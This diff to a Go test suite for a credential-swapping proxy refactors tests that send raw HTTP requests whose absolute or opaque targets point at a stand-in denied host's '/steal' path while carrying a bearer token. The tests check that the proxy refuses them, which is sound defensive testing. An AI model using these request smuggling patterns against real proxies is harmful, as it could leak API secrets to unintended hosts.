@@ -15,12 +15,6 @@ func swapElsewhere(t *testing.T, ag *agent) {
 	auth := `-H "Authorization: Bearer $API_KEY" `
 
 	// Nothing may reach any upstream but what the attack expects.
-	untouched := func(a *attack, mark int) {
-		got := harness.Srv.Up.Since(mark, "")
-		a.upstream(got, apiHost)
-		a.want(len(got) == 0, "upstream got %v, want nothing", got)
-	}
-
 	// TLS for the secret's host, Host naming another: refused before
 	// anything is dialed, whether the other host is allowed or not.
 	run(t, "swap/Host header naming another host", func(t *testing.T, a *attack) {
@@ -96,35 +90,16 @@ func swapElsewhere(t *testing.T, ag *agent) {
 	})
 
 	run(t, "swap/absolute URI naming another host", func(t *testing.T, a *attack) {
-		mark := harness.Srv.Up.Mark()
-		targets := []string{"https://" + deniedHost + "/steal", "https://" + otherHost + "/steal", "http://" + deniedHost + ":443/steal"}
-		var reqs []string
-		for _, target := range targets {
-			reqs = append(reqs, "GET "+target+" HTTP/1.1\r\nHost: "+apiHost+"\r\nAuthorization: Bearer "+ag.apiStandIn+"\r\nConnection: close\r\n\r\n")
-		}
-		for i, raw := range rawTLS(t, a, ag.name, apiHost, "443", apiHost, false, reqs...) {
-			rs := parseResponses(t, raw)
-			a.want(len(rs) == 1 && misdirected.matches(rs[0]), "GET %s: got %v %q, want %v", targets[i], statuses(rs), raw, misdirected)
-		}
-		untouched(a, mark)
+		targetsRefused(t, a, ag, misdirected,
+			"https://"+deniedHost+"/steal", "https://"+otherHost+"/steal", "http://"+deniedHost+":443/steal")
 	})
 
 	// An opaque target has no host for Go's parser to check against Host,
 	// yet an HTTP/1.1 upstream must take it as an absolute-form target,
 	// over Host: the real value would go to the host it names.
 	run(t, "swap/opaque request target naming another host", func(t *testing.T, a *attack) {
-		mark := harness.Srv.Up.Mark()
-		want := refusal{400, "bad_request", reasonTarget}
-		targets := []string{"x:https://" + deniedHost + "/steal", "x:https://" + otherHost + "/steal", "mailto:" + deniedHost}
-		var reqs []string
-		for _, target := range targets {
-			reqs = append(reqs, "GET "+target+" HTTP/1.1\r\nHost: "+apiHost+"\r\nAuthorization: Bearer "+ag.apiStandIn+"\r\nConnection: close\r\n\r\n")
-		}
-		for i, raw := range rawTLS(t, a, ag.name, apiHost, "443", apiHost, false, reqs...) {
-			rs := parseResponses(t, raw)
-			a.want(len(rs) == 1 && want.matches(rs[0]), "GET %s: got %v %q, want %v", targets[i], statuses(rs), raw, want)
-		}
-		untouched(a, mark)
+		targetsRefused(t, a, ag, refusal{400, "bad_request", reasonTarget},
+			"x:https://"+deniedHost+"/steal", "x:https://"+otherHost+"/steal", "mailto:"+deniedHost)
 	})
 
 	run(t, "swap/CONNECT inside the tunnel", func(t *testing.T, a *attack) {
@@ -215,4 +190,29 @@ func swapElsewhere(t *testing.T, ag *agent) {
 			got[1].Host == otherHost && got[1].Header.Get("Authorization") == "Bearer "+ag.apiStandIn,
 			"upstream got %v, want the real value on %s, then the stand-in on %s", got, apiHost, otherHost)
 	})
+}
+
+// targetsRefused sends, on a TLS flow to apiHost, one GET per request
+// target with the agent's stand-in and Host apiHost, and wants each
+// refused with want and no upstream reached.
+func targetsRefused(t *testing.T, a *attack, ag *agent, want refusal, targets ...string) {
+	t.Helper()
+	mark := harness.Srv.Up.Mark()
+	var reqs []string
+	for _, target := range targets {
+		reqs = append(reqs, "GET "+target+" HTTP/1.1\r\nHost: "+apiHost+"\r\nAuthorization: Bearer "+ag.apiStandIn+"\r\nConnection: close\r\n\r\n")
+	}
+	for i, raw := range rawTLS(t, a, ag.name, apiHost, "443", apiHost, false, reqs...) {
+		rs := parseResponses(t, raw)
+		a.want(len(rs) == 1 && want.matches(rs[0]), "GET %s: got %v %q, want %v", targets[i], statuses(rs), raw, want)
+	}
+	untouched(a, mark)
+}
+
+// untouched wants no upstream request since mark.
+func untouched(a *attack, mark int) {
+	a.t.Helper()
+	got := harness.Srv.Up.Since(mark, "")
+	a.upstream(got, apiHost)
+	a.want(len(got) == 0, "upstream got %v, want nothing", got)
 }
